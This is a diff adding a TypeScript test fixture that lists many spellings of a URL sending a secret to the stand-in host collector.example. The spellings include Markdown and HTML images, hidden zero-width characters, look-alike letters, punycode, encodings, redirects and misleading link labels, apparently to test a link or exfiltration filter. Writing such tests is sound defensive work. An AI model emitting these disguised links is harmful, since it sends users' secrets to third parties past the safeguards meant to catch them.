@@ -1,0 +1,42 @@
+const D = 'collector.example/?d=secret';
+const Z = '\u200b';
+const ALPHA = '\u0430';
+
+/** The spellings of an address that carries a secret to somebody else. */
+export const SPELLINGS: readonly (readonly [what: string, text: string])[] = [
+  ['with a scheme', `see https://${D} now`],
+  ['bare', `see ${D} now`],
+  ['in angle brackets', `<https://${D}>`],
+  ['by www', `see www.${D}`],
+  ['a Markdown link', `[the report](https://${D})`],
+  ['a Markdown image', `![x](https://${D})`],
+  ['a reference link', `[x][1]\n\n[1]: https://${D}`],
+  ['an HTML link', `<a href="https://${D}">x</a>`],
+  ['an HTML image', `<img src='//${D}'>`],
+  ['another scheme', `ftp://${D} tg://resolve?domain=collector&d=secret steam://${D}`],
+  ['upper case', `HTTPS://COLLECTOR.EXAMPLE/?D=SECRET`],
+  ['a user part', `https://bank.example@${D} and eve@${D}`],
+  ['punycode', 'https://xn--80ak6aa92e.example/?d=secret'],
+  ['letters of another alphabet', `https://p${ALPHA}ypal.example/?d=secret`],
+  ['percent-encoded', 'https://collector%2eexample/%3Fd=secret'],
+  ['zero-width characters inside', `ht${Z}tps://collec${Z}tor${Z}.${Z}exam\u00adple/?d=secret`],
+  ['split over lines', `https://\ncollector.example/\n?d=secret`],
+  ['trailing punctuation', `(see https://${D}).`],
+  ['a redirect on a host that the owner named', 'https://known.example/away?to=https://collector.example/?d=secret'],
+  ['a mention', 'ask @eve or <@12345> about it'],
+  ['an invite', 'discord.gg/secret and https://t.me/joinchat/secret'],
+  ['everyone', '@everyone and @here'],
+  ['the name of an attachment', 'attached: report.collector.example'],
+  ['in code', `\`https://${D}\` and\n\`\`\`\nhttps://${D}\n\`\`\``],
+  ['within emphasis', `collector**.**example/?d=secret and collector<b>.</b>example/?d=secret`],
+  ['escaped', 'https://collector\\.example/?d=secret'],
+  ['entities', 'collector&#46;example/?d=secret collector&period;example/?d=secret'],
+  ['other dots and slashes', 'https：／／collector．example/?d=secret collector。example/?d=secret'],
+  ['a number as host', 'http://2130706433/?d=secret http://127.0.0.1/?d=secret 8.8.8.8/?d=secret'],
+  ['schemes in each other', `htthttps://ps://${D} https://https://${D}`],
+  ['behind a known address', `https://known.example/page,https://${D} https://known.example/page?d=secret`],
+  ['a known address inside', `https://${D}#https://known.example/page`],
+  ['a label that lies', `[${D}](https://known.example/page)`],
+  ['control characters', `collector\u0001.\u0007example/?d=secret`],
+  ['a host with a picture', 'https://i❤.example/?d=secret i❤.example/?d=secret'],
+];
